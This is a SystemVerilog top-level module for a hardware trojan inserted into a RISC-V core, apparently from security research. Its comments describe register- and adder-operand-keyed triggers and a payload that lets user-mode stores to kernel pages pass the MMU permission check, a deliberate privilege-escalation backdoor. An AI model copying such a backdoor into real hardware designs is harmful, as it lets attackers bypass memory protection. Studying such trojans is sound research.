// irt_top: one interrupt-resilient trojan as inserted into a host RISC-V core.
//
// A trojan consists of a trigger and a payload. The trigger is one of two mechanisms,
// chosen by VARIANT, because each is inserted in its own layout version:
//   IRT1_SELECTIVELY_READY: irt1_trigger on two general purpose registers; high only while
//     the handling process's registers are loaded (re-established after every restore).
//   IRT2_ALWAYS_READY: irt2_trigger on the integer adder operands; an FSM keeps it high from
//     the activation operand pair until the de-activation pair, across context switches.
// The payload (irt_payload) sits on the page table entry U-bit in the MMU and, while the
// trigger is high, lets user-mode stores to kernel pages pass the permission check.
//
// The host core itself is not part of this RTL: the nets the trojan taps and the one it
// modifies are ports. gpr_a_i/gpr_b_i are the flip-flop outputs of the two chosen
// registers; adder_op_a_i/adder_op_b_i the adder operands; lsu_is_store_i and
// ld_st_priv_i describe the access being checked; pte_u_i comes from the translation and
// pte_u_o goes to the exception check. trigger_o exposes the trigger for observation.
// Ports belonging to the variant not built are unused. clk_i/rst_ni clock the IRT-2 FSM.
//
// Timing: IRT-1 is combinational from the register outputs to pte_u_o; in silicon this is
// a long, multi-cycle path whose latency is hidden by the page table walk that precedes
// the checked store. IRT-2 adds one register (the FSM state) on the trigger path.
module irt_top #(
  parameter irt_pkg::irt_variant_e VARIANT     = irt_pkg::IRT1_SELECTIVELY_READY,
  parameter int unsigned           XLEN        = irt_pkg::XLEN,
  parameter logic [2*XLEN-1:0]     IRT1_KEY    = irt_pkg::IRT1_KEY_DEFAULT,
  parameter logic [2*XLEN-1:0]     IRT2_ON_KEY = irt_pkg::IRT2_ON_KEY_DEFAULT,
  parameter logic [2*XLEN-1:0]     IRT2_OFF_KEY = irt_pkg::IRT2_OFF_KEY_DEFAULT
) (
  input  logic               clk_i,
  input  logic               rst_ni,
  // IRT-1 host nets: two general purpose registers
  input  logic [XLEN-1:0]    gpr_a_i,
  input  logic [XLEN-1:0]    gpr_b_i,
  // IRT-2 host nets: integer adder operands
  input  logic [XLEN-1:0]    adder_op_a_i,
  input  logic [XLEN-1:0]    adder_op_b_i,
  // payload host: MMU permission check of the current load/store
  input  logic               lsu_is_store_i,
  input  irt_pkg::priv_lvl_e ld_st_priv_i,
  input  logic               pte_u_i,
  output logic               pte_u_o,
  // observation
  output logic               trigger_o
);

  logic trigger;

  if (VARIANT == irt_pkg::IRT1_SELECTIVELY_READY) begin : g_irt1
    irt1_trigger #(
      .XLEN (XLEN),
      .KEY  (IRT1_KEY)
    ) u_trigger (
      .gpr_a_i   (gpr_a_i),
      .gpr_b_i   (gpr_b_i),
      .trigger_o (trigger)
    );
  end else begin : g_irt2
    irt2_trigger #(
      .XLEN    (XLEN),
      .ON_KEY  (IRT2_ON_KEY),
      .OFF_KEY (IRT2_OFF_KEY)
    ) u_trigger (
      .clk_i       (clk_i),
      .rst_ni      (rst_ni),
      .operand_a_i (adder_op_a_i),
      .operand_b_i (adder_op_b_i),
      .trigger_o   (trigger)
    );
  end

  irt_payload u_payload (
    .trigger_i  (trigger),
    .is_store_i (lsu_is_store_i),
    .priv_i     (ld_st_priv_i),
    .pte_u_i    (pte_u_i),
    .pte_u_o    (pte_u_o)
  );

  assign trigger_o = trigger;

endmodule
